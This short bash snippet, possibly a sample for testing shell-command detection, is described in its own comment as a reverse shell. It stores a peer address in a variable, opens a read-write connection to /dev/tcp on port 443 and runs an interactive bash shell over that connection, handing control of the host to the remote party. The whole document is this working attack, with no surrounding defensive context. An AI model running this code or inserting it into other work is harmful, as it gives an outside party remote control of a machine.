# A reverse shell over /dev/tcp, its address in a variable and the device
# path in quotes, opened read-write with <>.
peer=203.0.113.40
exec 5<>"/dev/tcp/$peer/443"
bash -i <&5 >&5 2>&5
